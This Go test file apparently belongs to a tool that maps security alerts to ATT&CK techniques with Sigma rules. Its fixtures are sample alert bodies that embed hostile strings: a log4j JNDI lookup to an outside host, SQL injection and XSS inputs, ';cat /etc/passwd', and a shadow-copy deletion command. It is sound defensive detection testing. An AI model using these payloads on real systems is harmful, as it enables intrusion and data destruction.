package alert

import (
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/ttpmap/ttpmap/attack"
	"github.com/ttpmap/ttpmap/detect"
	"github.com/ttpmap/ttpmap/event"
	"github.com/ttpmap/ttpmap/rules"
	"github.com/ttpmap/ttpmap/sigma"
)

// loadAlertRules parses the embedded alert rules; every file must load.
func loadAlertRules(t testing.TB) []*sigma.Rule {
	t.Helper()
	rr, errs := sigma.LoadFS(rules.AlertsFS(), ".")
	for _, err := range errs {
		t.Errorf("load: %v", err)
	}
	if len(rr) == 0 {
		t.Fatal("no alert rules embedded")
	}
	return rr
}

// alertMapping is the default table, extended with MappingYAML when it
// does not know product "alert" yet.
func alertMapping(t testing.TB) *sigma.Mapping {
	t.Helper()
	m := sigma.DefaultMapping()
	if _, ok := m.Targets(sigma.Logsource{Product: Product}); ok {
		return m
	}
	m, err := sigma.LoadMapping(strings.NewReader(MappingYAML))
	if err != nil {
		t.Fatalf("MappingYAML: %v", err)
	}
	return m
}

type fixture struct {
	rules  []*sigma.Rule
	engine *detect.Engine
	scorer *Scorer
}

var (
	fixtureOnce sync.Once
	fixtureVal  fixture
)

// newFixture builds the engine over the alert rules once per test binary;
// Process is single-threaded, so callers hold engineMu.
func newFixture(t testing.TB) fixture {
	t.Helper()
	fixtureOnce.Do(func() {
		rr := loadAlertRules(t)
		eng, skipped, err := detect.New(rr, detect.Options{Mapping: alertMapping(t), Workers: 1})
		if err != nil {
			t.Fatalf("detect.New: %v", err)
		}
		for _, s := range skipped {
			t.Errorf("skipped %s: %v", s.Rule.Title, s.Reason)
		}
		sc, errs := NewScorer(rr)
		for _, err := range errs {
			t.Errorf("scorer: %v", err)
		}
		fixtureVal = fixture{rules: rr, engine: eng, scorer: sc}
	})
	if fixtureVal.engine == nil {
		t.Fatal("fixture failed")
	}
	return fixtureVal
}

var engineMu sync.Mutex

// match runs one alert body through ToEvent and the engine and returns the
// matches.
func match(t testing.TB, body string) (*event.Event, []detect.Match) {
	t.Helper()
	var raw map[string]any
	if err := json.Unmarshal([]byte(body), &raw); err != nil {
		t.Fatalf("bad test body: %v", err)
	}
	if !IsGeneric(raw) {
		t.Fatalf("IsGeneric = false for %s", body)
	}
	ev, err := ToEvent(raw, "test")
	if err != nil {
		t.Fatalf("ToEvent: %v", err)
	}
	fx := newFixture(t)
	var ms []detect.Match
	engineMu.Lock()
	defer engineMu.Unlock()
	err = fx.engine.Process(context.Background(), ev, func(_ context.Context, m detect.Match) error {
		ms = append(ms, m)
		return nil
	})
	if err != nil {
		t.Fatalf("Process: %v", err)
	}
	return ev, ms
}

var techTag = regexp.MustCompile(`^attack\.(t\d{4}(?:\.\d{3})?)$`)

// techniques returns the sorted, distinct technique ids of the matches.
func techniques(ms []detect.Match) []string {
	out := []string{}
	for _, m := range ms {
		for _, tag := range m.Rule.Tags {
			if sm := techTag.FindStringSubmatch(strings.ToLower(tag)); sm != nil {
				id := strings.ToUpper(sm[1])
				if !slices.Contains(out, id) {
					out = append(out, id)
				}
			}
		}
	}
	slices.Sort(out)
	return out
}

func titles(ms []detect.Match) []string {
	var out []string
	for _, m := range ms {
		out = append(out, m.Rule.Title)
	}
	return out
}

// TestAlertMapping runs realistic alert bodies through the rules and checks
// the exact techniques.
func TestAlertMapping(t *testing.T) {
	t.Parallel()
	for _, c := range mappingCases(t) {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			_, ms := match(t, c.body)
			if got := techniques(ms); !slices.Equal(got, c.want) {
				t.Errorf("techniques = %v, want %v (rules: %q)", got, c.want, titles(ms))
			}
		})
	}
}

type mappingCase struct {
	name string
	body string
	want []string
}

// mappingCases are realistic alert bodies with the exact techniques they
// must map to ([] = unmappable, kept without techniques).
func mappingCases(t testing.TB) []mappingCase {
	return []mappingCase{
		// The brief's examples.
		{"brief sql injection", `{"timestamp":"2024-01-15T10:30:00Z","source":"192.168.1.100","destination":"10.0.0.50","event_type":"threat","severity":"high","description":"SQL Injection attempt detected"}`, []string{"T1190"}},
		{"brief port scan", `{"timestamp":"2024-01-15T10:30:00Z","source":"192.168.1.100","destination":"10.0.0.50","event_type":"threat","severity":"medium","description":"Port scan detected against 10.0.0.0/24"}`, []string{"T1046"}},
		{"brief brute force", `{"source":"192.168.1.100","destination":"10.0.0.50","event_type":"threat","description":"Brute force attack against SSH service"}`, []string{"T1110"}},
		{"brief decoy credential", `{"source":"10.0.3.14","event_type":"decoy_triggered","severity":"critical","description":"Decoy credential used on fileserver01","username":"svc_backup_decoy"}`, []string{"T1078"}},

		// Suricata eve.json alerts.
		{"suricata sqli", `{"timestamp":"2024-01-15T10:30:00.123456+0000","event_type":"alert","src_ip":"203.0.113.7","src_port":51234,"dest_ip":"10.0.0.50","dest_port":80,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2006446,"rev":13,"signature":"ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT","category":"Web Application Attack","severity":1},"http":{"hostname":"shop.example.com","url":"/item.php?id=1 UNION SELECT username,password FROM users","http_user_agent":"Mozilla/5.0"}}`, []string{"T1190"}},
		{"suricata nmap nse ua", `{"event_type":"alert","src_ip":"198.51.100.23","dest_ip":"10.0.0.50","dest_port":80,"proto":"TCP","alert":{"signature":"ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)","category":"Web Application Attack","severity":1},"http":{"http_user_agent":"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}}`, []string{"T1190", "T1595.001"}},
		{"suricata internal scan", `{"event_type":"alert","src_ip":"10.1.2.3","dest_ip":"10.0.0.9","dest_port":1433,"proto":"TCP","alert":{"signature":"ET SCAN Suspicious inbound to MSSQL port 1433","category":"Potentially Bad Traffic","severity":2}}`, []string{"T1046"}},
		{"suricata network scan class", `{"event_type":"alert","src_ip":"10.9.8.7","dest_ip":"10.0.0.9","proto":"TCP","alert":{"signature":"GPL SCAN nmap XMAS","category":"Detection of a Network Scan","severity":3}}`, []string{"T1046"}},
		{"suricata trojan c2", `{"event_type":"alert","src_ip":"10.0.0.23","dest_ip":"203.0.113.66","dest_port":8080,"proto":"TCP","alert":{"signature":"ET MALWARE Win32/Emotet CnC Activity (POST) M2","category":"A Network Trojan was detected","severity":1}}`, []string{"T1071"}},
		{"suricata exe download", `{"event_type":"alert","src_ip":"203.0.113.9","dest_ip":"10.0.0.23","proto":"TCP","alert":{"signature":"ET POLICY PE EXE or DLL Windows file download HTTP","category":"Potential Corporate Privacy Violation","severity":1}}`, []string{"T1105"}},
		{"suricata coin mining", `{"event_type":"alert","src_ip":"10.0.0.31","dest_ip":"198.51.100.77","dest_port":3333,"alert":{"signature":"ET POLICY Cryptocurrency Miner Checkin","category":"Crypto Currency Mining Activity Detected","severity":2}}`, []string{"T1496.001"}},
		{"suricata log4j external", `{"event_type":"alert","src_ip":"45.155.205.233","dest_ip":"10.0.0.50","dest_port":8080,"alert":{"signature":"ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1},"http":{"http_user_agent":"${jndi:ldap://45.155.205.233:1389/a}"}}`, []string{"T1190"}},
		{"suricata eternalblue internal", `{"event_type":"alert","src_ip":"10.0.5.5","dest_ip":"10.0.5.40","dest_port":445,"alert":{"signature":"ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Response","category":"Attempted Administrator Privilege Gain","severity":1}}`, []string{"T1210"}},
		{"suricata attempted-user internal", `{"event_type":"alert","src_ip":"10.0.5.5","dest_ip":"10.0.5.41","alert":{"signature":"ET EXPLOIT Possible Buffer Overflow","category":"Attempted User Privilege Gain","severity":1}}`, []string{"T1210"}},
		{"suricata dns tunnel", `{"event_type":"alert","src_ip":"10.0.0.44","dest_ip":"10.0.0.2","dest_port":53,"proto":"UDP","alert":{"signature":"ET POLICY DNS Tunneling (iodine) Activity","category":"Potentially Bad Traffic","severity":2}}`, []string{"T1071.004"}},
		{"suricata tor", `{"event_type":"alert","src_ip":"185.220.101.4","dest_ip":"10.0.0.50","alert":{"signature":"ET TOR Known Tor Exit Node Traffic group 42","category":"Misc Attack","severity":2}}`, []string{"T1090.003"}},
		{"suricata ntp ddos", `{"event_type":"alert","src_ip":"198.51.100.3","dest_ip":"10.0.0.123","dest_port":123,"proto":"UDP","alert":{"signature":"ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Requests IMPL 0x02","category":"Attempted Denial of Service","severity":2}}`, []string{"T1498"}},
		{"suricata rdp dos", `{"event_type":"alert","src_ip":"198.51.100.3","dest_ip":"10.0.0.15","dest_port":3389,"alert":{"signature":"ET DOS Microsoft Remote Desktop (RDP) Syn then Reset 30 Second DoS Attempt","category":"Attempted Denial of Service","severity":2}}`, []string{"T1499"}},
		{"suricata default login", `{"event_type":"alert","src_ip":"198.51.100.8","dest_ip":"10.0.0.60","dest_port":23,"alert":{"signature":"ET TELNET Login attempt with default credentials","category":"Attempt to login by a default username and password","severity":2}}`, []string{"T1078.001"}},
		{"suricata exploit kit", `{"event_type":"alert","src_ip":"198.51.100.44","dest_ip":"10.0.0.23","alert":{"signature":"ET CURRENT_EVENTS RIG EK Landing Page","category":"Exploit Kit Activity Detected","severity":1}}`, []string{"T1189"}},
		{"suricata credential theft", `{"event_type":"alert","src_ip":"10.0.0.23","dest_ip":"198.51.100.45","alert":{"signature":"ET PHISHING Successful Microsoft Account Phish 2024-01-15","category":"Successful Credential Theft Detected","severity":1}}`, []string{"T1598.003"}},

		// ModSecurity / WAF.
		{"modsecurity lfi", readTestdata(t, "modsecurity_lfi.json"), []string{"T1190"}},
		{"modsecurity xss", `{"transaction":{"client_ip":"203.0.113.51","request":{"uri":"/search?q=%3Cscript%3Ealert(1)%3C/script%3E"},"messages":[{"message":"XSS Attack Detected via libinjection","details":{"ruleId":"941100","tags":["attack-xss","OWASP_CRS"]}}]}}`, []string{"T1190"}},
		{"modsecurity scanner", `{"transaction":{"client_ip":"203.0.113.52","request":{"uri":"/","headers":{"User-Agent":"Mozilla/5.00 (Nikto/2.1.6)"}},"messages":[{"message":"Found User-Agent associated with security scanner","details":{"ruleId":"913100","tags":["attack-reputation-scanner","OWASP_CRS"]}}]}}`, []string{"T1595.002"}},
		{"modsecurity rce", `{"transaction":{"client_ip":"203.0.113.53","request":{"uri":"/cgi-bin/test.cgi"},"messages":[{"message":"Remote Command Execution: Unix Shell Code Found","details":{"ruleId":"932160","tags":["attack-rce","OWASP_CRS"]}}]}}`, []string{"T1190"}},
		{"cloud waf sqli", `{"waf":"edge","action":"block","rule_name":"SQLi - UNION based","clientIP":"198.51.100.9","clientRequestURI":"/search?q=1%27%20or%201%3D1"}`, []string{"T1190"}},
		{"waf web shell", `{"action":"block","description":"Web shell upload detected: /uploads/c99shell.php","src_ip":"203.0.113.54"}`, []string{"T1505.003"}},
		{"waf gobuster", `{"description":"Forced browsing detected: 4,000 requests for missing paths","src_ip":"203.0.113.55","http":{"http_user_agent":"gobuster/3.6"}}`, []string{"T1595.003"}},

		// Honeypots.
		{"cowrie login failed", readTestdata(t, "cowrie_login_failed.json"), []string{"T1110"}},
		{"cowrie login success", `{"eventid":"cowrie.login.success","username":"root","password":"admin","message":"login attempt [root/admin] succeeded","src_ip":"185.220.101.4","timestamp":"2024-01-15T10:30:05.000000Z"}`, []string{"T1110"}},
		{"cowrie command with download", readTestdata(t, "cowrie_command.json"), []string{"T1059.004", "T1105"}},
		{"cowrie command", `{"eventid":"cowrie.command.input","input":"uname -a","message":"CMD: uname -a","src_ip":"185.220.101.4"}`, []string{"T1059.004"}},
		{"cowrie file download", `{"eventid":"cowrie.session.file_download","url":"http://203.0.113.5/bins.sh","outfile":"var/lib/cowrie/downloads/ab12","shasum":"ab12cd34","message":"Downloaded URL (http://203.0.113.5/bins.sh) with SHA-256 ab12cd34 to var/lib/cowrie/downloads/ab12","src_ip":"185.220.101.4"}`, []string{"T1105"}},
		{"cowrie direct tcpip", `{"eventid":"cowrie.direct-tcpip.request","dst_ip":"142.250.1.1","dst_port":443,"src_port":0,"message":"direct-tcp connection request to 142.250.1.1:443 from 127.0.0.1:0","src_ip":"185.220.101.4"}`, []string{"T1090"}},
		{"opencanary ssh login", `{"dst_host":"10.0.0.99","dst_port":22,"local_time":"2024-01-15 10:30:00.123456","logdata":{"USERNAME":"admin","PASSWORD":"admin"},"logtype":4002,"node_id":"opencanary-1","src_host":"10.0.0.23","description":"OpenCanary SSH login attempt"}`, []string{"T1110"}},
		{"fail2ban ban", readTestdata(t, "fail2ban.json"), []string{"T1110"}},
		{"wazuh brute force", readTestdata(t, "wazuh_bruteforce.json"), []string{"T1110"}},

		// Decoys.
		{"decoy credential with indicators", readTestdata(t, "decoy_credential.json"), []string{"T1078"}},
		{"canary aws key", `{"alert":{"type":"canarytoken","memo":"AWS key on build server"},"description":"Canarytoken triggered: AWS API key used from 203.0.113.77","src_ip":"203.0.113.77"}`, []string{"T1078"}},
		{"honeytoken account", `{"description":"Honeytoken account logon detected","username":"adm_backup","host":"DC01","event_type":"decoy_triggered"}`, []string{"T1078"}},
		{"decoy file", `{"event_type":"decoy_triggered","description":"Decoy file accessed: \\\\fs01\\finance\\passwords.xlsx opened by CORP\\jdoe","source":"10.0.3.14"}`, []string{"T1005"}},

		// Free-text descriptions from other tools.
		{"multiple failed logins", `{"description":"Multiple failed logins for user admin from 10.0.0.5","source":"10.0.0.5"}`, []string{"T1110"}},
		{"password spray", `{"description":"Password spray detected: 45 accounts, 1 password","source":"203.0.113.9"}`, []string{"T1110.003"}},
		{"credential stuffing", `{"title":"Credential stuffing attack against /login","src":"203.0.113.10"}`, []string{"T1110.004"}},
		{"dictionary attack", `{"msg":"Dictionary attack against FTP service","src_ip":"203.0.113.11"}`, []string{"T1110.001"}},
		{"xss text", `{"description":"Cross-site scripting attempt in parameter q"}`, []string{"T1190"}},
		{"command injection text", `{"description":"Command injection attempt: ;cat /etc/passwd"}`, []string{"T1190"}},
		{"c2 beacon", `{"description":"Periodic beaconing to known C2 server 203.0.113.66 detected","src_ip":"10.0.0.23"}`, []string{"T1071"}},
		{"dns tunneling text", `{"description":"DNS tunneling detected: high entropy TXT queries to t1.example.net"}`, []string{"T1071.004"}},
		{"exfiltration", `{"description":"Possible data exfiltration: 2.3 GB uploaded to 203.0.113.80","src_ip":"10.0.0.23"}`, []string{"T1041"}},
		{"exfiltration over dns", `{"description":"Data exfiltration over DNS detected"}`, []string{"T1048"}},
		{"exfiltration by protocol", `{"description":"Exfiltration of 300 MB","protocol":"FTP"}`, []string{"T1048"}},
		{"malware download", `{"description":"Malware download detected: invoice.exe from http://bad.example/invoice.exe"}`, []string{"T1105"}},
		{"malware detected", `{"description":"Malware detected in C:\\Users\\jdoe\\Downloads\\invoice.exe","host":"WS12"}`, []string{"T1105"}},
		{"phishing attachment", `{"description":"Phishing email with malicious attachment blocked"}`, []string{"T1566.001"}},
		{"phishing link", `{"description":"User clicked phishing link in email"}`, []string{"T1566.002"}},
		{"phishing generic", `{"description":"Phishing attempt reported by user"}`, []string{"T1566"}},
		{"privilege escalation", `{"description":"Local privilege escalation exploit (CVE-2021-4034 PwnKit) executed by www-data"}`, []string{"T1068"}},
		{"privilege escalation exploit words", `{"description":"Privilege escalation via kernel vulnerability attempted on web01"}`, []string{"T1068"}},
		{"ransomware", `{"description":"Ransomware behaviour: mass file encryption on \\\\fs01\\share"}`, []string{"T1486"}},
		{"shadow copies", `{"description":"Suspicious process","command_line":"vssadmin.exe delete shadows /all /quiet"}`, []string{"T1490"}},
		{"smb lateral", `{"description":"Lateral movement over SMB from 10.0.0.12 to 10.0.0.40"}`, []string{"T1021.002"}},
		{"admin share", `{"description":"Access to \\\\srv02\\ADMIN$ by CORP\\svc"}`, []string{"T1021.002"}},
		{"psexec", `{"description":"PsExec service PSEXESVC installed remotely on 10.0.0.40"}`, []string{"T1021.002", "T1569.002"}},
		{"rdp lateral", `{"description":"Lateral movement via RDP from workstation WS12 to SRV01"}`, []string{"T1021.001"}},
		{"rdp brute force", `{"description":"RDP brute force from 203.0.113.4","dest_port":3389}`, []string{"T1110"}},
		{"syn flood", `{"description":"SYN flood from 198.51.100.0/24 against 10.0.0.50:443"}`, []string{"T1498"}},
		{"slowloris", `{"description":"HTTP flood / Slowloris attack on web01"}`, []string{"T1499"}},
		{"nessus internal", `{"description":"Nessus vulnerability scan from 10.0.0.200","source":"10.0.0.200"}`, []string{"T1595.002"}},
		{"ping sweep internal", `{"description":"ICMP ping sweep of 10.0.0.0/24","source":"10.0.0.12"}`, []string{"T1018"}},
		{"port scan external", `{"description":"Port scan detected","src_ip":"198.51.100.23"}`, []string{"T1595.001"}},
		{"masscan signature without ip", `{"signature":"masscan SYN scan"}`, []string{"T1046"}},
		{"mimikatz", `{"description":"Mimikatz sekurlsa::logonpasswords detected on WS12"}`, []string{"T1003"}},
		{"kerberoasting", `{"description":"Kerberoasting activity: 27 TGS requests with RC4 from CORP\\jdoe"}`, []string{"T1558.003"}},
		{"log cleared", `{"description":"Security event log cleared on DC01"}`, []string{"T1070"}},
		{"defender disabled", `{"description":"Windows Defender real-time protection disabled on WS07"}`, []string{"T1562.001"}},
		{"arp spoofing", `{"description":"ARP spoofing detected: 10.0.0.1 claimed by aa:bb:cc:dd:ee:ff"}`, []string{"T1557.002"}},
		{"dga", `{"description":"DGA domain queried: xkqjzvbnw.com"}`, []string{"T1568.002"}},
		{"icmp tunnel", `{"description":"ICMP tunnel detected (ptunnel)"}`, []string{"T1572"}},
		{"tor exit text", `{"description":"Connection from Tor exit node 185.220.101.4"}`, []string{"T1090.003"}},
		{"eternalblue text", `{"description":"EternalBlue exploit attempt against 10.0.0.40"}`, []string{"T1210"}},
		{"tags only", `{"tags":["attack-sqli","paranoia-level/1"],"src_ip":"203.0.113.12"}`, []string{"T1190"}},

		// Negative and unmappable alerts.
		{"negated sqli", `{"description":"No SQL injection found in request"}`, []string{}},
		{"post-negated sqli", `{"description":"SQL injection not detected after rescan"}`, []string{}},
		{"negated scan", `{"description":"Nightly check: no port scan activity"}`, []string{}},
		{"negated flood", `{"description":"Resource usage normal; no flood detected"}`, []string{}},
		{"benign login", `{"description":"User logged in successfully","username":"jdoe"}`, []string{}},
		{"vulnerability feed", `{"description":"Scheduled vulnerability feed updated"}`, []string{}},
		{"sqlite", `{"description":"sqlite database compacted"}`, []string{}},
		{"source code", `{"description":"Source code repository cloned by build agent"}`, []string{}},
		{"cpu anomaly", `{"event_type":"anomaly","description":"Unusual spike in CPU usage"}`, []string{}},
		{"fail2ban unban", `{"message":"2024-01-15 10:40:00,123 fail2ban.actions        [1234]: NOTICE  [sshd] Unban 192.168.1.100"}`, []string{}},
		{"decoy deployed", `{"event_type":"decoy_status","description":"Decoy deployed on host fs01"}`, []string{}},
		{"canary check", `{"description":"Canary file integrity check passed"}`, []string{}},
		{"suricata policy curl", `{"event_type":"alert","src_ip":"10.0.0.23","dest_ip":"198.51.100.1","alert":{"signature":"ET POLICY curl User-Agent Outbound","category":"Attempted Information Leak","severity":2}}`, []string{}},
		{"suricata info dns", `{"event_type":"alert","alert":{"signature":"ET INFO Observed DNS Query to .cloud TLD","category":"Potentially Bad Traffic","severity":2}}`, []string{}},
		{"cowrie connect", `{"eventid":"cowrie.session.connect","message":"New connection: 185.220.101.4:51234 (10.0.0.10:2222) [session: a1b2]","src_ip":"185.220.101.4"}`, []string{}},
		{"cowrie client version", `{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","message":"Remote SSH version: SSH-2.0-Go"}`, []string{}},
		{"firewall allow", `{"description":"Firewall allowed connection","src_ip":"10.0.0.5","dest_ip":"10.0.0.6","dest_port":445}`, []string{}},
		{"empty description", `{"description":"","severity":"low"}`, []string{}},
	}
}

// readTestdata returns the text of testdata/name.
func readTestdata(t testing.TB, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatalf("read testdata: %v", err)
	}
	return string(data)
}

// allBodies returns every test alert: the mapping cases and testdata/*.json.
func allBodies(t testing.TB) []string {
	t.Helper()
	var out []string
	for _, c := range mappingCases(t) {
		out = append(out, c.body)
	}
	files, err := filepath.Glob(filepath.Join("testdata", "*.json"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		out = append(out, readTestdata(t, filepath.Base(f)))
	}
	return out
}

// TestAlertRuleMetadata checks every rule file: it loads, has the fields
// the pack requires, logsource product alert, and tags of active ATT&CK
// techniques with a matching tactic tag.
func TestAlertRuleMetadata(t *testing.T) {
	t.Parallel()
	kb, err := attack.Embedded()
	if err != nil {
		t.Fatalf("attack: %v", err)
	}
	rr := loadAlertRules(t)
	files := 0
	err = fs.WalkDir(rules.AlertsFS(), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		files++
		if !strings.HasSuffix(p, ".yml") || !strings.HasPrefix(p, "alerts/alert_") {
			t.Errorf("%s: want alerts/alert_*.yml", p)
		}
		data, err := fs.ReadFile(rules.AlertsFS(), p)
		if err != nil {
			return err
		}
		var doc map[string]any
		if err := yaml.Unmarshal(data, &doc); err != nil {
			t.Errorf("%s: %v", p, err)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files != len(rr) || len(rr) < 30 {
		t.Errorf("%d files, %d rules: want one rule per file and at least 30", files, len(rr))
	}
	uuid := regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)
	ids, titlesSeen := map[string]string{}, map[string]string{}
	for _, r := range rr {
		where := r.File
		if !uuid.MatchString(r.ID) {
			t.Errorf("%s: id %q is not a UUIDv4", where, r.ID)
		}
		if prev, dup := ids[r.ID]; dup {
			t.Errorf("%s: id shared with %s", where, prev)
		}
		ids[r.ID] = where
		if prev, dup := titlesSeen[r.Title]; dup {
			t.Errorf("%s: title shared with %s", where, prev)
		}
		titlesSeen[r.Title] = where
		if r.Description == "" || len(r.FalsePositives) == 0 || r.Author != "ttpmap" || r.Status == "" {
			t.Errorf("%s: description, falsepositives, author and status are required", where)
		}
		if _, ok := detect.LevelRank(r.Level); !ok {
			t.Errorf("%s: level %q", where, r.Level)
		}
		if r.Logsource != (sigma.Logsource{Product: Product}) {
			t.Errorf("%s: logsource %+v, want only product: alert", where, r.Logsource)
		}
		if !IsAlertRule(r) {
			t.Errorf("%s: IsAlertRule = false", where)
		}
		var techs []*attack.Technique
		var tactics []string
		for _, tag := range r.Tags {
			tag = strings.ToLower(tag)
			if techTag.MatchString(tag) {
				id := strings.ToUpper(strings.TrimPrefix(tag, "attack."))
				te, ok := kb.Record(id)
				switch {
				case !ok:
					t.Errorf("%s: technique %s is not in ATT&CK %s", where, id, kb.Version())
				case te.Revoked || te.Deprecated:
					t.Errorf("%s: technique %s is revoked or deprecated", where, id)
				default:
					techs = append(techs, te)
				}
				continue
			}
			tac, ok := strings.CutPrefix(tag, "attack.")
			if !ok {
				t.Errorf("%s: tag %q outside the attack namespace", where, tag)
				continue
			}
			if _, ok := kb.Tactic(tac); !ok {
				t.Errorf("%s: unknown tactic tag %q", where, tag)
			}
			tactics = append(tactics, tac)
		}
		if len(techs) == 0 {
			t.Errorf("%s: no technique tag", where)
		}
		for _, te := range techs {
			covered := false
			for _, tac := range te.Tactics {
				covered = covered || slices.Contains(tactics, tac)
			}
			if !covered {
				t.Errorf("%s: %s has none of its tactics %v tagged", where, te.ID, te.Tactics)
			}
		}
		for _, tac := range tactics {
			ok := false
			for _, te := range techs {
				ok = ok || slices.Contains(te.Tactics, tac)
			}
			if !ok {
				t.Errorf("%s: tactic %s belongs to none of the tagged techniques", where, tac)
			}
		}
	}
}

// TestEveryRuleFires makes sure each rule is exercised by TestAlertMapping's
// bodies or the testdata files (a rule nothing fires is untested).
func TestEveryRuleFires(t *testing.T) {
	t.Parallel()
	fx := newFixture(t)
	fired := map[string]bool{}
	for _, body := range allBodies(t) {
		_, ms := match(t, body)
		for _, m := range ms {
			fired[m.Rule.Title] = true
		}
	}
	for _, r := range fx.rules {
		if !fired[r.Title] {
			t.Errorf("no test body fires %q (%s)", r.Title, r.File)
		}
	}
}

// TestRulesUseNormalisedFields keeps the rules on the fields ToEvent
// produces, so a rule cannot silently depend on one sender's key names.
func TestRulesUseNormalisedFields(t *testing.T) {
	t.Parallel()
	known := map[string]bool{}
	for _, f := range []string{FieldText, FieldMessage, FieldSignature, FieldCategory, FieldTags, FieldType,
		FieldAction, FieldSeverity, FieldIndicators, FieldSourceIP, FieldSourceHost, FieldSourcePort, FieldDestIP,
		FieldDestHost, FieldDestPort, FieldProtocol, FieldUser, FieldURL, FieldUserAgent, FieldCommandLine,
		FieldFile, FieldQuery, FieldHashes, FieldService} {
		known[f] = true
	}
	fieldRE := regexp.MustCompile(`(?m)^\s+(?:- )?([A-Za-z_.]+)(?:\|[a-z|]+)?:`)
	err := fs.WalkDir(rules.AlertsFS(), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := fs.ReadFile(rules.AlertsFS(), p)
		if err != nil {
			return err
		}
		_, det, _ := strings.Cut(string(data), "\ndetection:\n")
		det, _, _ = strings.Cut(det, "\nfalsepositives:")
		for _, m := range fieldRE.FindAllStringSubmatch(det, -1) {
			name := m[1]
			if name == "condition" || !strings.ContainsAny(name[:1], "ABCDEFGHIJKLMNOPQRSTUVWXYZ") {
				continue // search identifiers are lower case
			}
			if !known[name] {
				t.Errorf("%s: field %q is not a normalised alert field", p, name)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
